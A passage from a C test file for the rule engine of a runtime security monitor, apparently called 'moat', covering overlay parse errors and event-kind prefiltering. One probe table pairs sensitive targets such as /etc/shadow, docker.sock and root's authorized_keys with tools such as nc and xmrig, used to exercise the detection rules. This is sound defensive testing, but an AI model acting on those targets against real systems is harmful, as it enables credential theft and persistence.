			 "\"mode\":\"block\",\"rules\":{\"action\":\"explode\"}}]", 0, NULL);
	ov = NULL;
	CHECK_INT(moat_rules_overlay_parse(pol, &ov, &err), MOAT_E_FORMAT);
	CHECK(ov == NULL && strstr(err.msg, "bad") != NULL);
	json_decref(pol);
	pol = json_loads("[{\"kind\":\"runtime\",\"name\":\"bad2\",\"enabled\":true,"
			 "\"mode\":\"block\",\"rules\":{\"disable\":\"a-one\"}}]", 0, NULL);
	CHECK_INT(moat_rules_overlay_parse(pol, &ov, &err), MOAT_E_FORMAT);
	json_decref(pol);
}

/* The evt.kind prefilter (never_kinds) the defender tests before a rule:
 * narrowed by kind equalities under and/or, never by other tests. */
static void test_rules__kind_prefilter(void)
{
	static const char *const text =
		"rules:\n"
		"  - {id: k-in, severity: info, when: {and: [{field: evt.kind, in: [open, connect]},"
		" {field: fd.name, equals: /x}]}}\n"
		"  - {id: k-or, severity: info, when: {or: [{field: evt.kind, equals: exec},"
		" {field: evt.kind, equals: fork}]}}\n"
		"  - {id: k-not, severity: info, when: {not: {field: evt.kind, equals: exec}}}\n"
		"  - {id: k-starts, severity: info, when: {field: evt.kind, startswith: ex}}\n"
		"  - {id: k-mixed, severity: info, when: {and: [{or: [{field: evt.kind, equals: open},"
		" {field: proc.name, equals: sh}]}, {field: evt.kind, equals: exec}]}}\n";
	static const char *const probe_fields[][2] = {
		{ "/etc/shadow", "sh" }, { "/etc/cron.d/x", "bash" }, { "/var/run/docker.sock", "nc" },
		{ "/proc/sys/kernel/core_pattern", "python3" }, { "/root/.ssh/authorized_keys", "xmrig" },
	};
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	const struct moat_rule *r;

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(load_str(rs, text, &err), 0);
	r = rule_by_id(rs, "k-in");
	CHECK(r && moat_rule_may_match_kind(r, MOAT_EV_OPEN) &&
	      moat_rule_may_match_kind(r, MOAT_EV_CONNECT) && !moat_rule_may_match_kind(r, MOAT_EV_EXEC));
	r = rule_by_id(rs, "k-or");
	CHECK(r && moat_rule_may_match_kind(r, MOAT_EV_EXEC) && moat_rule_may_match_kind(r, MOAT_EV_FORK) &&
	      !moat_rule_may_match_kind(r, MOAT_EV_OPEN));
	r = rule_by_id(rs, "k-not");
	CHECK(r && moat_rule_may_match_kind(r, MOAT_EV_EXEC) && moat_rule_may_match_kind(r, MOAT_EV_OPEN));
	r = rule_by_id(rs, "k-starts");
	CHECK(r && moat_rule_may_match_kind(r, MOAT_EV_OPEN));
	r = rule_by_id(rs, "k-mixed");
	CHECK(r && moat_rule_may_match_kind(r, MOAT_EV_EXEC) && !moat_rule_may_match_kind(r, MOAT_EV_OPEN));
	CHECK(r && moat_rule_may_match_kind(r, 40));    /* past the mask: evaluated */
	moat_rules_close(rs);
	/* the built-in rules: a rule that matches an event of a kind never
	 * skips that kind */
	rs = builtin();
	for (size_t i = 0; rs && i < moat_rules_count(rs); i++) {
		r = moat_rules_get(rs, i);
		for (unsigned k = 0; k < MOAT_EV_KIND_MAX; k++) {
			for (size_t p = 0; p < sizeof(probe_fields) / sizeof(probe_fields[0]); p++) {
				struct moat_rule_view v = { 0 };

				v.f[MOAT_F_EVT_KIND] = moat_sensor_kind_name(k);
				v.f[MOAT_F_FD_NAME] = probe_fields[p][0];
				v.f[MOAT_F_FD_WRITE] = "true";
				v.f[MOAT_F_PROC_NAME] = probe_fields[p][1];
				v.f[MOAT_F_PROC_EXE] = "/bin/sh";
				v.f[MOAT_F_PROC_CMDLINE] = probe_fields[p][1];
				v.f[MOAT_F_CONTAINER_ID] = "c1";
				if (moat_rule_matches(r, &v) && !moat_rule_may_match_kind(r, k))
					printf("# %s skips kind %s but matches\n", r->id,
					       moat_sensor_kind_name(k));
				CHECK(!moat_rule_matches(r, &v) || moat_rule_may_match_kind(r, k));
			}
		}
	}
	moat_rules_close(rs);
}

int main(void)
{
	MOAT_RUN(test_rules__builtin_exec);
	MOAT_RUN(test_rules__builtin_files_net);
	MOAT_RUN(test_rules__operators);
	MOAT_RUN(test_rules__lua);
	MOAT_RUN(test_rules__lua_load_errors);
	MOAT_RUN(test_rules__reload);
	MOAT_RUN(test_rules__deny_exes);
	MOAT_RUN(test_rules__scope);
	MOAT_RUN(test_rules__errors);
	MOAT_RUN(test_rules__prefixes);
	MOAT_RUN(test_rules__prefix_merge);
	MOAT_RUN(test_rules__cgroup_ids);
	MOAT_RUN(test_rules__times);
	MOAT_RUN(test_rules__record_checks);
	MOAT_RUN(test_rules__overlay);
	MOAT_RUN(test_rules__kind_prefilter);
	return moat_test_done();
}
